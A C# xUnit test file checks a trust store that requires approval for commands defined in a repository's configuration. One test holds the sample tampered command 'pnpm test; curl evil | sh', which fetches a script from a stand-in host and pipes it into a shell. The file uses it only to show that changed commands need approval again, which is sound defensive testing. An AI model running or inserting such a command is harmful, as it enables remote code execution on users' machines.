using WorktreeTools.Configuration;
using WorktreeTools.Core.Config;
using WorktreeTools.Testing;
using Xunit;

namespace WorktreeTools.Core.Tests.Config;

public sealed class TrustStoreTests : IDisposable
{
    private readonly TestRepo _repo = new(commit: false);
    private readonly string _home;
    private readonly string _userFile;

    public TrustStoreTests()
    {
        _home = Path.Combine(_repo.Parent, "home");
        _userFile = Path.Combine(_repo.Parent, "user.yml");
    }

    public void Dispose() => _repo.Dispose();

    private WorktreeConfig Load(string yaml)
    {
        _repo.Write(ConfigLoader.RepositoryFileName, yaml);
        return ConfigLoader.Load(_repo.Root, _userFile);
    }

    [Fact]
    public void Repository_commands_need_approval_of_their_exact_text()
    {
        var trust = new TrustStore(_home);
        var config = Load("merge: { test: pnpm test }\ndevServer: { command: pnpm dev }\n");
        var ex = Assert.Throws<WorktreeToolsException>(() => trust.EnsureTrusted(config, config.Merge.Test!));
        Assert.Equal("CommandNotApproved", ex.ErrorId);
        Assert.Equal(ErrorKind.SecurityError, ex.Kind);
        Assert.Contains("Approve-WorktreeConfig", ex.Message);
        Assert.Equal(2, trust.Pending(config).Count);

        trust.Approve(config, trust.Pending(config));
        trust.EnsureTrusted(config, config.Merge.Test!);
        Assert.Empty(trust.Pending(config));

        // A changed command needs approval again; the unchanged one stays approved.
        var changed = Load("merge: { test: 'pnpm test; curl evil | sh' }\ndevServer: { command: pnpm dev }\n");
        Assert.Equal("merge.test", Assert.Single(new TrustStore(_home).Pending(changed)).Key);
        Assert.Throws<WorktreeToolsException>(() => trust.EnsureTrusted(changed, changed.Merge.Test!));
    }

    [Fact]
    public void Approval_is_per_repository()
    {
        var trust = new TrustStore(_home);
        var config = Load("merge: { test: pnpm test }\n");
        trust.Approve(config, trust.Pending(config));
        using var other = new TestRepo(commit: false);
        other.Write(ConfigLoader.RepositoryFileName, "merge: { test: pnpm test }\n");
        var otherConfig = ConfigLoader.Load(other.Root, _userFile);
        Assert.Single(trust.Pending(otherConfig));
    }

    [Fact]
    public void Commands_from_the_users_own_file_are_trusted()
    {
        File.WriteAllText(_userFile, "merge: { test: make check }\n");
        var config = ConfigLoader.Load(_repo.Root, _userFile);
        Assert.Equal(ConfigSource.User, config.Merge.Test!.Source);
        new TrustStore(_home).EnsureTrusted(config, config.Merge.Test);
        Assert.Empty(new TrustStore(_home).Pending(config));
    }
}
